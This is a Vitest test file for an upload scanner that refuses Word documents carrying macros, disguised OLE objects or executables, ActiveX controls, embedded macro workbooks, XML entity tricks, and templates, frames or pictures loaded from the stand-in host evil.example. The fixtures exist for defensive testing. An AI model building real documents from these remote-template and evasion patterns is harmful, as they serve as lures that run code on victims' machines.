import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { expect, test } from 'vitest';
import { generators } from '../../src/domain/resources/generators.ts';
import { examine, HEAD_BYTES } from '../../server/uploads/sniff.ts';
import { wordDocuments } from './corpus/documents.ts';
import { zipOf } from './corpus/zip.ts';
import { formOf, freshFolder, signedIn } from './harness.ts';
import { filesFor, valuesFor } from './samples.ts';

const WORD_TYPE = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document';
const RELATION = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const OLE = Buffer.from('D0CF11E0A1B11AE1', 'hex');
const text = (content: string) => Buffer.from(content);

const override = (part: string, type: string) => `<Override PartName="/${part}" ContentType="${type}"/>`;
const types = (more = '') =>
  text(
    `<?xml version="1.0" encoding="UTF-8"?><Types><Default Extension="xml" ContentType="application/xml"/>${more}</Types>`,
  );
const relations = (...each: string[]) => text(`<Relationships>${each.join('')}</Relationships>`);
const relation = (type: string, target: string, more = '') =>
  `<Relationship Id="r1" Type="${RELATION}/${type}" Target="${target}"${more}/>`;
const EXTERNAL = ' TargetMode="External"';

const plain = { '[Content_Types].xml': types(), 'word/document.xml': text('<document/>') };
const withRels = (...each: string[]) => ({ ...plain, 'word/_rels/document.xml.rels': relations(...each) });
const withTypes = (more: string) => ({ ...plain, '[Content_Types].xml': types(more) });

async function seen(bytes: Uint8Array) {
  const path = join(await freshFolder(), 'file');
  await writeFile(path, bytes);
  return examine(Buffer.from(bytes.subarray(0, HEAD_BYTES)), path);
}

const accepted = { type: WORD_TYPE };
const refused = (fault: string) => ({ type: undefined, fault });
const utf16 = (content: string) => Buffer.from(`\uFEFF${content}`, 'utf16le');

test.each([
  ['an OLE object named as a picture', { ...plain, 'word/media/image1.png': Buffer.concat([OLE, Buffer.alloc(600)]) }],
  ['a program named as a picture', { ...plain, 'word/media/image1.png': text('MZ\u0090 program') }],
  ['macros by their content type', withTypes(override('word/data.xml', 'application/vnd.ms-office.vbaProject'))],
  [
    'a content type spelled with characters',
    withTypes(override('word/a.xml', 'application/vnd.ms-office.&#118;baProject')),
  ],
  [
    'a document of the kind with macros',
    withTypes(override('word/document.xml', 'application/vnd.ms-word.document.macroEnabled.main+xml')),
  ],
  [
    'an ending that means an OLE object',
    withTypes('<Default Extension="XML" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>'),
  ],
  [
    'macros by their relationship',
    withRels(
      '<Relationship Id="r" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="styles2.xml"/>',
    ),
  ],
  ['an OLE object by its relationship', withRels(relation('oleObject', 'media/image1.png'))],
  ['a control by its relationship', withRels(relation('control', 'theme2.xml'))],
  ['a document that Word takes in', withRels(relation('aFChunk', 'part.xml'))],
  [
    'a relationship in UTF-16',
    { ...plain, 'word/_rels/document.xml.rels': utf16(relations(relation('oleObject', 'a')).toString()) },
  ],
  [
    'a relationship with a prefix',
    {
      ...plain,
      'word/_rels/document.xml.rels': text(`<r:Relationship Target='a' Type='${RELATION}/oleObject'></r:Relationship>`),
    },
  ],
  [
    'a workbook with macros named as one without',
    {
      ...plain,
      'word/embeddings/a.xlsx': zipOf(
        { '[Content_Types].xml': types(override('xl/a.xml', 'application/vnd.ms-office.vbaProject')) },
        true,
      ),
    },
  ],
  [
    'a workbook with an OLE object',
    { ...plain, 'word/embeddings/a.xlsx': zipOf({ 'xl/media/image1.png': OLE }, true) },
  ],
])('refuses a Word document with %s, stored or deflated', async (_what, members) => {
  for (const isDeflated of [false, true]) expect(await seen(zipOf(members, isDeflated))).toEqual(refused('runs'));
});

test.each([
  ['its template', 'template', relation('attachedTemplate', 'https://evil.example/t.dotm', EXTERNAL)],
  [
    'its template from a share',
    'template',
    relation('attachedTemplate', 'file://evil.example/t.dotx', ` TargetMode='external'`),
  ],
  ['a frame', 'elsewhere', relation('frame', 'https://evil.example/', EXTERNAL)],
  ...['file://evil.example/a.png', '\\\\evil.example\\a.png', '//evil.example/a.png', '%5C%5Cevil.example%5Ca.png'].map(
    (target) => [`a picture (${target})`, 'elsewhere', relation('image', target, EXTERNAL)],
  ),
])('refuses a Word document that loads %s from elsewhere', async (_what, fault, each) => {
  expect(await seen(zipOf({ ...plain, 'word/_rels/settings.xml.rels': relations(each) }, true))).toEqual(
    refused(fault),
  );
});

test.each([
  ['entities of its own', text('<!DOCTYPE a [<!ENTITY b "oleObject">]><Relationships/>')],
  ['an encoding that hides letters', text('<?xml version="1.0" encoding="UTF-7"?><Relationships/>')],
  ['relationships of many megabytes', Buffer.alloc(9_000_000, '<Relationships/>')],
])('refuses a Word document with %s', async (_what, rels) => {
  expect(await seen(zipOf({ ...plain, 'word/_rels/document.xml.rels': rels }, true))).toEqual(refused('unreadable'));
});

test('accepts a Word document with links, pictures, a local template, a workbook and words about macros', async () => {
  const members = {
    ...withRels(
      relation('hyperlink', 'https://example.com/setup.exe', EXTERNAL),
      relation('image', 'https://example.com/a.png', EXTERNAL),
      relation('image', 'pictures/a (1).png', EXTERNAL),
      relation('image', 'media/image1.png'),
      relation('package', 'embeddings/sheet.xlsx'),
      relation('attachedTemplate', 'template.xml'),
    ),
    'word/text.xml': text('oleObject vbaProject macroEnabled'),
    'word/media/image1.png': text('\u0089PNG'),
    'word/embeddings/sheet.xlsx': zipOf({ '[Content_Types].xml': types(), 'xl/workbook.xml': text('<a/>') }, true),
  };
  for (const isDeflated of [false, true]) expect(await seen(zipOf(members, isDeflated))).toEqual(accepted);
});

test('accepts the Word documents of real programs that load nothing', async () => {
  const told = await Promise.all(wordDocuments().map(async ([name, bytes]) => [name, await seen(bytes)] as const));
  expect(told.filter(([, { type }]) => type !== WORD_TYPE)).toEqual([]);
});

test('says to people what is wrong with a Word document, and what to do', async () => {
  const { admin } = await signedIn();
  const bytes = zipOf({
    ...plain,
    'word/_rels/settings.xml.rels': relations(relation('attachedTemplate', 'https://evil.example/t.dotm', EXTERNAL)),
  });
  const files = (await filesFor(generators)).map((file) =>
    file.field === 'catalog' ? { ...file, bytes, name: 'a.docx', type: WORD_TYPE } : file,
  );
  const answer = await admin.post(generators.endpoints.create, formOf(valuesFor(generators.fields), files));
  expect([answer.statusCode, answer.json().errors]).toEqual([
    422,
    { catalog: ['The catalog loads its template from another place. Detach the template, or save it as PDF.'] },
  ]);
});
